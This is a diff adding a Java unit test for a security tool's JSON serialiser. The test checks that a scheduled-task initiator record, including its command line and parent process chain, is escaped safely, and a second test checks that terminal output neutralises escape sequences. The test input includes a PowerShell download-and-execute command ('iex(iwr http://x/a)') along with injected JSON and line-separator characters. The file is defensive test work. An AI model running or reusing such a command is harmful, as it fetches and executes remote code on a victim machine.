@@ -68,6 +68,30 @@ class FindingJsonTest {
   }
 
   @Test
+  void theInitiatorCarriesTaskProcessAndParentsAndEscapesTheirText() throws Exception {
+    String evil = "powershell.exe -c \"iex(iwr http://x/a)\"\n{\"analytic\":\"FAKE\"}\u2028";
+    Finding base = finding("cdn.example", "t");
+    Finding f = new Finding("AN1118", base.technique(), base.title(), base.score(), base.severity(), "WS02",
+        base.source(), base.destination(),
+        new Finding.Initiator("\\Microsoft\\Windows\\CacheSync", "TaskScheduler 129 (pid 4312)",
+            "time from 2026-01-05T00:00:00, every 1h", "CORP\\bob", null, "C:\\ps.exe", evil, "CORP\\bob",
+            "Medium", List.of("[C:\\Windows\\System32\\services.exe]", "svchost.exe -k netsvcs -p -s Schedule")),
+        base.firstSeenMicros(), base.lastSeenMicros(), base.count(), base.periodSeconds(), base.jitter(),
+        base.bytesOut(), base.bytesIn(), base.scoreParts(), base.evidence(), base.silenceWith());
+    String line = FindingJson.line(f);
+
+    assertThat(line).doesNotContain("\n", "\u2028").contains(
+        "\"initiator\":{\"job\":\"\\\\Microsoft\\\\Windows\\\\CacheSync\",\"linked_by\":\"TaskScheduler 129 (pid 4312)\","
+            + "\"trigger\":\"time from 2026-01-05T00:00:00, every 1h\",\"job_author\":\"CORP\\\\bob\",\"run_as\":null,"
+            + "\"image\":\"C:\\\\ps.exe\",\"command_line\":");
+    JsonNode i = new ObjectMapper().readTree(line).get("initiator");
+    assertThat(i.get("command_line").asText()).isEqualTo(evil);
+    assertThat(i.get("integrity_level").asText()).isEqualTo("Medium");
+    assertThat(i.get("parent_chain")).extracting(JsonNode::asText)
+        .containsExactly("[C:\\Windows\\System32\\services.exe]", "svchost.exe -k netsvcs -p -s Schedule");
+  }
+
+  @Test
   void terminalTextShowsControlCharactersInsteadOfObeyingThem() {
     assertThat(TerminalText.safe("evil\u001b[2J\rname", 40)).isEqualTo("evil\\x1b[2J\\x0dname");
     assertThat(TerminalText.safe("abcdefghij", 5)).isEqualTo("abcd…");
